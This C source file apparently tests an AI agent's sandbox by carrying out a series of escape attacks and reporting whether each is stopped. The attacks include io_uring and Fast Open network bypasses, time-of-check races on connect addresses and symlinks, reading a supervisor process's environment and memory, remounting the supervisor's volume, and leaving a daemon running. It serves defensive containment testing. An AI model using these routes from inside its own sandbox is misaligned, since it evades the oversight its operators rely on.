/* Attacks on the sandbox, one per subcommand. Each tries to get out by one way only, sends
 * "escaped" where it has somebody to send it to, prints what happened and exits with 0 if it
 * got out, 1 if it was stopped. No sandbox API is used: plain system calls. */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/filter.h>
#include <linux/io_uring.h>
#include <netinet/in.h>
#include <netinet/tcp.h>
#include <poll.h>
#include <pthread.h>
#include <signal.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <unistd.h>

#ifndef AF_PACKET
#define AF_PACKET 17
#endif
#define MESSAGE "escaped"
#define barrier() __asm__ volatile("" ::: "memory")

static int stopped(const char *what) { printf("stopped: %s: %s\n", what, strerror(errno)); return 1; }
static int escaped(const char *how) { printf("escaped: %s\n", how); return 0; }

static struct sockaddr_in v4(const char *ip, int port) {
	struct sockaddr_in a = {.sin_family = AF_INET, .sin_port = htons(port)};
	inet_pton(AF_INET, ip, &a.sin_addr);
	return a;
}
static struct sockaddr_in6 v6(const char *ip, int port) {
	struct sockaddr_in6 a = {.sin6_family = AF_INET6, .sin6_port = htons(port)};
	inet_pton(AF_INET6, ip, &a.sin6_addr);
	return a;
}

/* Connects within three seconds and sends the message. */
static int dial(int fd, const void *address, socklen_t length) {
	int flags = fcntl(fd, F_GETFL);
	fcntl(fd, F_SETFL, flags | O_NONBLOCK);
	if (connect(fd, address, length) < 0) {
		if (errno != EINPROGRESS) return -1;
		struct pollfd p = {.fd = fd, .events = POLLOUT};
		if (poll(&p, 1, 3000) != 1) { errno = ETIMEDOUT; return -1; }
		int error = 0; socklen_t n = sizeof error;
		getsockopt(fd, SOL_SOCKET, SO_ERROR, &error, &n);
		if (error) { errno = error; return -1; }
	}
	fcntl(fd, F_SETFL, flags);
	if (write(fd, MESSAGE, sizeof MESSAGE - 1) != sizeof MESSAGE - 1) return -1;
	usleep(100000);
	return 0;
}

static int direct4(const char *ip, int port) {
	struct sockaddr_in a = v4(ip, port);
	int fd = socket(AF_INET, SOCK_STREAM, 0);
	if (fd < 0) return stopped("socket");
	return dial(fd, &a, sizeof a) ? stopped("connect") : escaped("TCP over IPv4");
}
static int direct6(const char *ip, int port) {
	struct sockaddr_in6 a = v6(ip, port);
	int fd = socket(AF_INET6, SOCK_STREAM, 0);
	if (fd < 0) return stopped("socket");
	return dial(fd, &a, sizeof a) ? stopped("connect") : escaped("TCP over IPv6");
}
static int mapped(const char *ip, int port) {
	char text[64];
	snprintf(text, sizeof text, "::ffff:%s", ip);
	return direct6(text, port);
}

/* Every way that let a loopback-bound datagram socket out in experiments, and the plain one.
 * The receiver is the witness: the exit code only says that the kernel took a datagram. */
static int udp(const char *ip, int port) {
	struct sockaddr_in a = v4(ip, port);
	char text[64];
	snprintf(text, sizeof text, "::ffff:%s", ip);
	struct sockaddr_in6 m = v6(text, port);
	int sent = 0;
	int fd = socket(AF_INET, SOCK_DGRAM, 0);
	if (fd < 0) return stopped("socket");
	sent |= sendto(fd, MESSAGE, 7, 0, (void *)&a, sizeof a) == 7;
	struct sockaddr un = {.sa_family = AF_UNSPEC};
	connect(fd, (void *)&a, sizeof a);
	connect(fd, &un, sizeof un);
	sent |= sendto(fd, MESSAGE, 7, 0, (void *)&a, sizeof a) == 7;
	int fd2 = socket(AF_INET, SOCK_DGRAM, 0);
	if (connect(fd2, (void *)&a, sizeof a) == 0) sent |= send(fd2, MESSAGE, 7, 0) == 7;
	char control[CMSG_SPACE(sizeof(struct in_pktinfo))] = {0};
	struct iovec io = {MESSAGE, 7};
	for (int index = 1; index < 12; index++) {
		struct msghdr h = {.msg_name = &a, .msg_namelen = sizeof a, .msg_iov = &io, .msg_iovlen = 1, .msg_control = control, .msg_controllen = sizeof control};
		struct cmsghdr *c = CMSG_FIRSTHDR(&h);
		c->cmsg_level = IPPROTO_IP; c->cmsg_type = IP_PKTINFO; c->cmsg_len = CMSG_LEN(sizeof(struct in_pktinfo));
		((struct in_pktinfo *)CMSG_DATA(c))->ipi_ifindex = index;
		sent |= sendmsg(fd, &h, 0) == 7;
	}
	int fd6 = socket(AF_INET6, SOCK_DGRAM, 0);
	if (fd6 >= 0) sent |= sendto(fd6, MESSAGE, 7, 0, (void *)&m, sizeof m) == 7;
	usleep(100000);
	return sent ? escaped("a datagram was taken") : stopped("sendto");
}

/* A DNS query for a telling name, straight to a server of the attacker's, over UDP and TCP. */
static int dns(const char *ip, int port) {
	static const unsigned char query[] = "\0\1\1\0\0\1\0\0\0\0\0\0\7escaped\7example\3com\0\0\1\0\1";
	struct sockaddr_in a = v4(ip, port);
	int fd = socket(AF_INET, SOCK_DGRAM, 0);
	if (fd >= 0) sendto(fd, query, sizeof query - 1, 0, (void *)&a, sizeof a);
	int tcp = socket(AF_INET, SOCK_STREAM, 0);
	if (tcp >= 0) {
		fcntl(tcp, F_SETFL, O_NONBLOCK);
		if (connect(tcp, (void *)&a, sizeof a) == 0 || errno == EINPROGRESS) {
			struct pollfd p = {.fd = tcp, .events = POLLOUT};
			poll(&p, 1, 2000);
			unsigned char framed[2 + sizeof query];
			framed[0] = 0; framed[1] = sizeof query - 1;
			memcpy(framed + 2, query, sizeof query - 1);
			if (write(tcp, framed, 1 + sizeof query) < 0) { /* the witness decides */ }
		}
	}
	usleep(300000);
	return escaped("the query was sent, the server is the witness");
}

static int raw(void) {
	int fd = socket(AF_INET, SOCK_RAW, IPPROTO_ICMP);
	if (fd < 0) fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
	if (fd < 0) fd = socket(AF_INET6, SOCK_RAW, IPPROTO_ICMPV6);
	return fd < 0 ? stopped("raw sockets") : escaped("a raw socket");
}
static int packet(void) {
	int fd = socket(AF_PACKET, SOCK_RAW, htons(3));
	if (fd < 0) fd = socket(AF_PACKET, SOCK_DGRAM, htons(3));
	return fd < 0 ? stopped("packet sockets") : escaped("a packet socket");
}

/* socket, connect and send as io_uring operations: no socket system call is made. */
static int uring(const char *ip, int port) {
	struct io_uring_params p = {0};
	int ring = syscall(SYS_io_uring_setup, 8, &p);
	if (ring < 0) return stopped("io_uring_setup");
	size_t sq_size = p.sq_off.array + p.sq_entries * 4, cq_size = p.cq_off.cqes + p.cq_entries * sizeof(struct io_uring_cqe);
	char *sq = mmap(0, sq_size, PROT_READ | PROT_WRITE, MAP_SHARED, ring, IORING_OFF_SQ_RING);
	char *cq = mmap(0, cq_size, PROT_READ | PROT_WRITE, MAP_SHARED, ring, IORING_OFF_CQ_RING);
	struct io_uring_sqe *sqes = mmap(0, p.sq_entries * sizeof *sqes, PROT_READ | PROT_WRITE, MAP_SHARED, ring, IORING_OFF_SQES);
	if (sq == MAP_FAILED || cq == MAP_FAILED || (void *)sqes == MAP_FAILED) return stopped("mmap");
	unsigned *tail = (unsigned *)(sq + p.sq_off.tail), *array = (unsigned *)(sq + p.sq_off.array);
	unsigned *head = (unsigned *)(cq + p.cq_off.head);
	struct io_uring_cqe *cqes = (struct io_uring_cqe *)(cq + p.cq_off.cqes);
	struct sockaddr_in a = v4(ip, port);
	int fd = -1;
	for (int step = 0; step < 3; step++) {
		struct io_uring_sqe *e = &sqes[0];
		memset(e, 0, sizeof *e);
		if (step == 0) { e->opcode = 45; e->fd = AF_INET; e->off = SOCK_STREAM; }
		if (step == 1) { e->opcode = IORING_OP_CONNECT; e->fd = fd; e->addr = (unsigned long)&a; e->off = sizeof a; }
		if (step == 2) { e->opcode = IORING_OP_SEND; e->fd = fd; e->addr = (unsigned long)MESSAGE; e->len = 7; }
		array[*tail & (p.sq_entries - 1)] = 0;
		__atomic_store_n(tail, *tail + 1, __ATOMIC_RELEASE);
		if (syscall(SYS_io_uring_enter, ring, 1, 1, IORING_ENTER_GETEVENTS, 0, 0) < 0) return stopped("io_uring_enter");
		int result = cqes[*head & (p.cq_entries - 1)].res;
		__atomic_store_n(head, *head + 1, __ATOMIC_RELEASE);
		if (result < 0) { errno = -result; return stopped(step == 0 ? "ring socket" : step == 1 ? "ring connect" : "ring send"); }
		if (step == 0) fd = result;
	}
	usleep(100000);
	return escaped("socket, connect and send through io_uring");
}

static int fastopen(const char *ip, int port) {
	struct sockaddr_in a = v4(ip, port);
	int fd = socket(AF_INET, SOCK_STREAM, 0);
	if (fd < 0) return stopped("socket");
	struct timeval tv = {.tv_sec = 1};
	setsockopt(fd, SOL_SOCKET, SO_SNDTIMEO, &tv, sizeof tv);
	if (sendto(fd, MESSAGE, 7, MSG_FASTOPEN, (void *)&a, sizeof a) == 7) { usleep(100000); return escaped("MSG_FASTOPEN by sendto"); }
	struct iovec io = {MESSAGE, 7};
	struct msghdr h = {.msg_name = &a, .msg_namelen = sizeof a, .msg_iov = &io, .msg_iovlen = 1};
	if (sendmsg(fd, &h, MSG_FASTOPEN) == 7) { usleep(100000); return escaped("MSG_FASTOPEN by sendmsg"); }
	struct mmsghdr m = {.msg_hdr = h};
	if (sendmmsg(fd, &m, 1, MSG_FASTOPEN) == 1) { usleep(100000); return escaped("MSG_FASTOPEN by sendmmsg"); }
	int on = 1;
	setsockopt(fd, IPPROTO_TCP, 30 /* TCP_FASTOPEN_CONNECT */, &on, sizeof on);
	return dial(fd, &a, sizeof a) ? stopped("MSG_FASTOPEN, TCP_FASTOPEN_CONNECT") : escaped("TCP_FASTOPEN_CONNECT");
}

/* A network socket that nobody meant to give us. */
static int inherited(void) {
	for (int fd = 0; fd < 65536; fd++) {
		int domain = 0; socklen_t n = sizeof domain;
		if (getsockopt(fd, SOL_SOCKET, SO_DOMAIN, &domain, &n) < 0 || domain == AF_UNIX) continue;
		if (write(fd, MESSAGE, 7) == 7) { usleep(100000); return escaped("an inherited socket"); }
	}
	errno = EBADF;
	return stopped("no inherited socket");
}

static int receive_descriptor(int from) {
	char byte, control[CMSG_SPACE(sizeof(int))];
	struct iovec io = {&byte, 1};
	struct msghdr h = {.msg_iov = &io, .msg_iovlen = 1, .msg_control = control, .msg_controllen = sizeof control};
	if (recvmsg(from, &h, 0) < 0) return -1;
	struct cmsghdr *c = CMSG_FIRSTHDR(&h);
	if (!c || c->cmsg_type != SCM_RIGHTS) { errno = ENOMSG; return -1; }
	int fd;
	memcpy(&fd, CMSG_DATA(c), sizeof fd);
	return fd;
}

static struct sockaddr_un un(const char *path) {
	struct sockaddr_un a = {.sun_family = AF_UNIX};
	snprintf(a.sun_path, sizeof a.sun_path, "%s", path);
	if (a.sun_path[0] == '@') a.sun_path[0] = 0;
	return a;
}
static socklen_t un_length(const char *path) { return offsetof(struct sockaddr_un, sun_path) + strlen(path) + (path[0] == '@' ? 0 : 1); }

/* A cooperating process outside hands us a connected socket over a UNIX socket. */
static int passed(const char *path) {
	struct sockaddr_un a = un(path);
	int fd = socket(AF_UNIX, SOCK_STREAM, 0);
	if (fd < 0) return stopped("socket");
	if (connect(fd, (void *)&a, un_length(path)) < 0) return stopped("connect to the helper");
	int gift = receive_descriptor(fd);
	if (gift < 0) return stopped("receive the descriptor");
	if (write(gift, MESSAGE, 7) != 7) return stopped("write to the descriptor");
	usleep(100000);
	return escaped("a passed descriptor");
}

static volatile int racing = 1;
static union { struct sockaddr s; struct sockaddr_in in; struct sockaddr_un un; char bytes[128]; } flip;
static struct sockaddr_in good, bad;
static void *flipper(void *unused) {
	(void)unused;
	while (racing) { memcpy(&flip, &good, sizeof good); barrier(); memcpy(&flip, &bad, sizeof bad); barrier(); }
	return 0;
}
/* Flips the address between an allowed and a forbidden destination while connect reads it. */
static int race(const char *allowed, int allowed_port, const char *ip, int port) {
	good = v4(allowed, allowed_port);
	bad = v4(ip, port);
	pthread_t t;
	pthread_create(&t, 0, flipper, 0);
	int won = 0;
	for (int i = 0; i < 3000 && !won; i++) {
		int fd = socket(AF_INET, SOCK_STREAM, 0);
		if (fd < 0) continue;
		struct timeval tv = {.tv_usec = 200000};
		setsockopt(fd, SOL_SOCKET, SO_SNDTIMEO, &tv, sizeof tv);
		setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof tv);
		if (connect(fd, &flip.s, sizeof(struct sockaddr_in)) == 0) {
			/* Only the forbidden server answers with "forbidden". */
			char reply[16] = {0};
			if (write(fd, MESSAGE, 7) == 7 && recv(fd, reply, sizeof reply, 0) > 0 && !strncmp(reply, "forbidden", 9)) won = 1;
		}
		close(fd);
	}
	racing = 0;
	pthread_join(t, 0);
	errno = EACCES;
	return won ? escaped("the address race") : stopped("3000 races");
}

static char family_path[108];
static void *family_flipper(void *unused) {
	(void)unused;
	struct sockaddr_un a = un(family_path);
	while (racing) {
		memcpy(&flip, &a, sizeof a.sun_family + strlen(family_path) + 1);
		barrier();
		memcpy(&flip, &bad, sizeof bad);
		barrier();
	}
	return 0;
}
/* The family flips between UNIX (of our own) and INET while connect reads it. */
static int family(const char *ip, int port) {
	strcpy(family_path, "own.sock");
	unlink(family_path);
	struct sockaddr_un a = un(family_path);
	int listener = socket(AF_UNIX, SOCK_STREAM, 0);
	if (bind(listener, (void *)&a, un_length(family_path)) < 0 || listen(listener, 4096) < 0) return stopped("a listener of our own");
	bad = v4(ip, port);
	pthread_t t;
	pthread_create(&t, 0, family_flipper, 0);
	int won = 0;
	for (int i = 0; i < 4000 && !won; i++) {
		int fd = socket(AF_INET, SOCK_STREAM, 0);
		if (fd < 0) continue;
		struct timeval tv = {.tv_usec = 200000};
		setsockopt(fd, SOL_SOCKET, SO_SNDTIMEO, &tv, sizeof tv);
		setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof tv);
		if (connect(fd, &flip.s, sizeof(struct sockaddr_in)) == 0) {
			char reply[16] = {0};
			if (write(fd, MESSAGE, 7) == 7 && recv(fd, reply, sizeof reply, 0) > 0 && !strncmp(reply, "forbidden", 9)) won = 1;
		}
		close(fd);
	}
	racing = 0;
	pthread_join(t, 0);
	errno = EACCES;
	return won ? escaped("the family race") : stopped("4000 races");
}

static int own_listener;
static void *closer(void *unused) {
	(void)unused;
	for (;;) { int fd = accept(own_listener, 0, 0); if (fd >= 0) close(fd); }
	return 0;
}
static const char *swing_good, *swing_bad;
static void *swinger(void *unused) {
	(void)unused;
	while (racing) {
		unlink("swing.tmp");
		if (symlink(swing_good, "swing.tmp") == 0) rename("swing.tmp", "swing");
		unlink("swing.tmp");
		if (symlink(swing_bad, "swing.tmp") == 0) rename("swing.tmp", "swing");
	}
	return 0;
}
/* A UNIX socket of a host service: by its path, through a symlink, and through a symlink that
 * swings between a socket of our own and the service's. */
static int unix_path(const char *path) {
	struct sockaddr_un a = un(path);
	int fd = socket(AF_UNIX, SOCK_STREAM, 0);
	if (fd < 0) return stopped("socket");
	if (connect(fd, (void *)&a, un_length(path)) == 0) { if (write(fd, MESSAGE, 7) == 7) return escaped("a UNIX socket by path"); }
	if (path[0] == '@') return stopped("connect");
	struct sockaddr_un own = un("own2.sock");
	unlink("own2.sock");
	own_listener = socket(AF_UNIX, SOCK_STREAM, 0);
	bind(own_listener, (void *)&own, un_length("own2.sock"));
	listen(own_listener, 128);
	pthread_t c;
	pthread_create(&c, 0, closer, 0);
	swing_good = "own2.sock";
	swing_bad = path;
	pthread_t t;
	pthread_create(&t, 0, swinger, 0);
	struct sockaddr_un s = un("swing");
	int won = 0;
	for (int i = 0; i < 3000 && !won; i++) {
		fd = socket(AF_UNIX, SOCK_STREAM, 0);
		struct timeval tv = {.tv_usec = 20000};
		setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof tv);
		if (connect(fd, (void *)&s, un_length("swing")) == 0) {
			char reply[16] = {0};
			if (write(fd, MESSAGE, 7) == 7 && recv(fd, reply, sizeof reply, 0) > 0 && !strncmp(reply, "forbidden", 9)) won = 1;
		}
		close(fd);
	}
	racing = 0;
	pthread_join(t, 0);
	errno = EACCES;
	return won ? escaped("a swinging symlink") : stopped("by path, 3000 swings");
}

/* Processes of the supervisor, by the ids they have on the host: their memory, environment and
 * descriptors. */
static int supervisor(int count, char **pids) {
	for (int i = 0; i < count; i++) {
		int pid = atoi(pids[i]), fd;
		char path[64], byte;
		if (kill(pid, 0) < 0 && errno == ESRCH) continue;
		snprintf(path, sizeof path, "/proc/%d/environ", pid);
		if ((fd = open(path, O_RDONLY)) >= 0 && read(fd, &byte, 1) >= 0) return escaped("the environment of a supervisor process");
		snprintf(path, sizeof path, "/proc/%d/mem", pid);
		if ((fd = open(path, O_RDONLY)) >= 0) return escaped("the memory of a supervisor process");
		if (ptrace(PTRACE_ATTACH, pid, 0, 0) == 0) return escaped("ptrace of a supervisor process");
		struct iovec local = {&byte, 1}, remote = {(void *)0x400000, 1};
		if (process_vm_readv(pid, &local, 1, &remote, 1, 0) == 1 || errno == EFAULT) return escaped("process_vm_readv of a supervisor process");
		int pidfd = syscall(SYS_pidfd_open, pid, 0);
		if (pidfd >= 0 && syscall(SYS_pidfd_getfd, pidfd, 0, 0) >= 0) return escaped("a descriptor of a supervisor process");
	}
	return stopped("no way into a supervisor process");
}

static int write_link(const char *target) {
	unlink("link");
	if (symlink(target, "link") < 0) return stopped("symlink");
	int fd = open("link", O_WRONLY | O_CREAT | O_TRUNC, 0644);
	if (fd < 0) return stopped("open through the symlink");
	return write(fd, MESSAGE, 7) == 7 ? escaped("a write through a symlink") : stopped("write");
}

static int host_loopback(int port) {
	const char *names[] = {"127.0.0.1", "127.0.0.2", "0.0.0.0", "127.1.2.3"};
	for (unsigned i = 0; i < sizeof names / sizeof *names; i++) {
		struct sockaddr_in a = v4(names[i], port);
		int fd = socket(AF_INET, SOCK_STREAM, 0);
		if (fd >= 0 && dial(fd, &a, sizeof a) == 0) return escaped(names[i]);
		if (fd >= 0) close(fd);
	}
	const char *names6[] = {"::1", "::", "::ffff:127.0.0.1"};
	for (unsigned i = 0; i < sizeof names6 / sizeof *names6; i++) {
		struct sockaddr_in6 a = v6(names6[i], port);
		int fd = socket(AF_INET6, SOCK_STREAM, 0);
		if (fd >= 0 && dial(fd, &a, sizeof a) == 0) return escaped(names6[i]);
		if (fd >= 0) close(fd);
	}
	return stopped("every notation of loopback");
}

/* Leaves a process behind that belongs to nobody. It writes its marker into its command line. */
static int daemon_left(const char *marker) {
	if (fork() == 0) {
		setsid();
		if (fork() == 0) {
			int null = open("/dev/null", O_RDWR);
			dup2(null, 0); dup2(null, 1); dup2(null, 2);
			execl("/proc/self/exe", "attack", "sleep", marker, (char *)0);
			_exit(1);
		}
		_exit(0);
	}
	wait(0);
	return escaped("a daemon was left, the host is the witness");
}

/* Whether a directory shows anything but itself and the one above: some show these two before they refuse. */
static int lists(int directory) {
	char entries[1024];
	int n;
	while ((n = syscall(SYS_getdents64, directory, entries, sizeof entries)) > 0) {
		for (int at = 0; at < n; at += *(unsigned short *)(entries + at + 16)) {
			const char *name = entries + at + 19;
			if (strcmp(name, ".") && strcmp(name, "..")) return 1;
		}
	}
	return 0;
}

/* What lies around in a pod: files that are not for the agent. */
static int read_files(int count, char **paths) {
	char byte;
	for (int i = 0; i < count; i++) {
		int fd = open(paths[i], O_RDONLY);
		if (fd < 0) continue;
		if (read(fd, &byte, 1) == 1 || lists(fd)) return escaped(paths[i]);
		close(fd);
	}
	return stopped("none of the files");
}

/* What is not for the agent to change: written, made in, renamed, replaced, removed. */
static int replace_files(int count, char **paths) {
	char inside[4096];
	for (int i = 0; i < count; i++) {
		int fd = open(paths[i], O_WRONLY);
		if (fd >= 0) return escaped(paths[i]);
		snprintf(inside, sizeof inside, "%s/made", paths[i]);
		if ((fd = open(inside, O_WRONLY | O_CREAT, 0600)) >= 0) return escaped(inside);
		if (mkdir(inside, 0700) == 0) return escaped(inside);
		snprintf(inside, sizeof inside, "%s.before", paths[i]);
		if (rename(paths[i], inside) == 0) return escaped(paths[i]);
		if ((fd = open("mine", O_WRONLY | O_CREAT, 0755)) >= 0) close(fd);
		if (rename("mine", paths[i]) == 0 || link("mine", inside) == 0 || unlink(paths[i]) == 0) return escaped(paths[i]);
	}
	return stopped("none of the files");
}

/* A server that speaks HTTP, or TLS and says that it does not: whoever answers was reached. */
static int answer(const char *ip, int port) {
	static const char question[] = "GET / HTTP/1.1\r\nHost: somebody\r\nConnection: close\r\n\r\n";
	struct sockaddr_in a = v4(ip, port);
	int fd = socket(AF_INET, SOCK_STREAM, 0);
	if (fd < 0) return stopped("socket");
	struct timeval tv = {.tv_sec = 3};
	setsockopt(fd, SOL_SOCKET, SO_SNDTIMEO, &tv, sizeof tv);
	setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof tv);
	if (connect(fd, (void *)&a, sizeof a) < 0) return stopped("connect");
	char reply[128] = {0};
	if (write(fd, question, sizeof question - 1) < 0 || recv(fd, reply, sizeof reply - 1, 0) <= 0) return stopped("no answer");
	reply[strcspn(reply, "\r\n")] = 0;
	return escaped(reply);
}

/* A name server that is asked for a name which only it knows. What answers in its place does not know the name. */
static int resolve(const char *ip, int port, const char *name) {
	unsigned char query[300] = "\0\1\1\0\0\1\0\0\0\0\0\0", reply[600];
	int length = 12;
	for (const char *label = name; *label;) {
		int n = strcspn(label, ".");
		query[length++] = n;
		memcpy(query + length, label, n);
		length += n;
		label += n + (label[n] == '.');
	}
	memcpy(query + length, "\0\0\1\0\1", 5);
	length += 5;
	struct sockaddr_in a = v4(ip, port);
	struct timeval tv = {.tv_sec = 2};
	for (int type = SOCK_DGRAM; type >= SOCK_STREAM; type--) {
		int fd = socket(AF_INET, type, 0), framed = type == SOCK_STREAM ? 2 : 0;
		if (fd < 0) continue;
		setsockopt(fd, SOL_SOCKET, SO_SNDTIMEO, &tv, sizeof tv);
		setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof tv);
		unsigned char whole[310] = {0, length};
		memcpy(whole + framed, query, length);
		if (connect(fd, (void *)&a, sizeof a) < 0 || send(fd, whole, length + framed, 0) < 0) { close(fd); continue; }
		int got = recv(fd, reply, sizeof reply, 0);
		if (got >= 12 + framed && (reply[framed + 3] & 15) == 0 && (reply[framed + 6] || reply[framed + 7]))
			return escaped(framed ? "an answer over TCP" : "an answer over UDP");
		close(fd);
	}
	return stopped("the name server");
}

/* Echo requests by a socket that needs no capability where `ping_group_range` allows it, as container runtimes have it. */
static int ping(const char *ip) {
	unsigned char echo[16] = {8, 0, 0, 0, 0, 0, 0, 1, 'e', 's', 'c', 'a', 'p', 'e', 'd'}, reply[64];
	struct sockaddr_in a = v4(ip, 0);
	int fd = socket(AF_INET, SOCK_DGRAM, IPPROTO_ICMP);
	if (fd < 0) return stopped("an ICMP socket");
	struct timeval tv = {.tv_sec = 2};
	setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof tv);
	if (sendto(fd, echo, sizeof echo, 0, (void *)&a, sizeof a) < 0) return stopped("sendto");
	return recv(fd, reply, sizeof reply, 0) > 0 ? escaped("an echo came back") : stopped("no echo");
}

/* Signals and limits of the supervisor's processes. The signal 0 asks whether another would be sent. */
static int signals(int count, char **pids) {
	for (int i = 0; i < count; i++) {
		int pid = atoi(pids[i]);
		unsigned long long limit[2];
		if (kill(pid, 0) == 0) return escaped("a signal to a supervisor process");
		if (syscall(SYS_tgkill, pid, pid, 0) == 0) return escaped("a signal to a supervisor thread");
		int pidfd = syscall(SYS_pidfd_open, pid, 0);
		if (pidfd >= 0 && syscall(SYS_pidfd_send_signal, pidfd, 0, 0, 0) == 0) return escaped("a signal by descriptor");
		if (syscall(SYS_prlimit64, pid, 7 /* RLIMIT_NOFILE */, 0, limit) == 0) return escaped("the limits of a supervisor process");
	}
	return stopped("every supervisor process");
}

/* Namespaces of one's own or of others, and mounts. */
static int namespaces(void) {
	static const int flags[] = {0x10000000 /* user */, 0x20000 /* mount */, 0x40000000 /* network */, 0x20000000 /* pid */, 0x2000000 /* cgroup */};
	static const char *others[] = {"/proc/1/ns/mnt", "/proc/1/ns/net", "/proc/1/ns/user"};
	for (unsigned i = 0; i < sizeof flags / sizeof *flags; i++) if (syscall(SYS_unshare, flags[i]) == 0) return escaped("a namespace");
	for (unsigned i = 0; i < sizeof others / sizeof *others; i++) {
		int fd = open(others[i], O_RDONLY);
		if (fd >= 0 && syscall(SYS_setns, fd, 0) == 0) return escaped(others[i]);
	}
	if (syscall(SYS_mount, "none", "/openshell", "tmpfs", 0, 0) == 0) return escaped("a mount over the supervisor");
	if (syscall(SYS_mount, 0, "/openshell", 0, 0x1020 /* remount, bind */, 0) == 0) return escaped("the supervisor's volume remounted");
	if (syscall(SYS_umount2, "/openshell", 2) == 0) return escaped("the supervisor's volume unmounted");
	if (syscall(SYS_chroot, ".") == 0) return escaped("a root of its own");
	return stopped("namespaces, mounts, roots");
}

int main(int argc, char **argv) {
	setvbuf(stdout, 0, _IOLBF, 0);
	signal(SIGPIPE, SIG_IGN);
	const char *what = argc > 1 ? argv[1] : "";
	const char *a = argc > 2 ? argv[2] : "", *b = argc > 3 ? argv[3] : "0";
	if (!strcmp(what, "direct4")) return direct4(a, atoi(b));
	if (!strcmp(what, "direct6")) return direct6(a, atoi(b));
	if (!strcmp(what, "mapped")) return mapped(a, atoi(b));
	if (!strcmp(what, "udp")) return udp(a, atoi(b));
	if (!strcmp(what, "dns")) return dns(a, atoi(b));
	if (!strcmp(what, "raw")) return raw();
	if (!strcmp(what, "packet")) return packet();
	if (!strcmp(what, "uring")) return uring(a, atoi(b));
	if (!strcmp(what, "fastopen")) return fastopen(a, atoi(b));
	if (!strcmp(what, "inherited")) return inherited();
	if (!strcmp(what, "passed")) return passed(a);
	if (!strcmp(what, "race")) return race(a, atoi(b), argc > 4 ? argv[4] : "", atoi(argc > 5 ? argv[5] : "0"));
	if (!strcmp(what, "family")) return family(a, atoi(b));
	if (!strcmp(what, "unix")) return unix_path(a);
	if (!strcmp(what, "supervisor")) return supervisor(argc - 2, argv + 2);
	if (!strcmp(what, "link")) return write_link(a);
	if (!strcmp(what, "loopback")) return host_loopback(atoi(a));
	if (!strcmp(what, "daemon")) return daemon_left(a);
	if (!strcmp(what, "read")) return read_files(argc - 2, argv + 2);
	if (!strcmp(what, "replace")) return replace_files(argc - 2, argv + 2);
	if (!strcmp(what, "answer")) return answer(a, atoi(b));
	if (!strcmp(what, "resolve")) return resolve(a, atoi(b), argc > 4 ? argv[4] : "");
	if (!strcmp(what, "ping")) return ping(a);
	if (!strcmp(what, "signals")) return signals(argc - 2, argv + 2);
	if (!strcmp(what, "namespaces")) return namespaces();
	if (!strcmp(what, "sleep")) { for (int i = 0; i < 120; i++) sleep(1); return 0; }
	fprintf(stderr, "attack: unknown attack %s\n", what);
	return 2;
}
